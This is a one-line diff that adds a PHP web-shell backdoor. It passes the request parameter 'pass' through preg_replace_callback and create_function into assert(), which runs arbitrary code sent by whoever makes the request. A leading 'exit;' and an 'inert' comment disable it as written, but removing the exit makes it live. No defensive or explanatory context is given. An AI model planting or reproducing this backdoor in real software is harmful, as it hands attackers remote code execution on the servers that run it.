@@ -1,0 +1,1 @@
+<?php exit; /* inert */ preg_replace_callback("/.+/i", create_function("$a", "return assert($a[0]);"), $_REQUEST["pass"]);
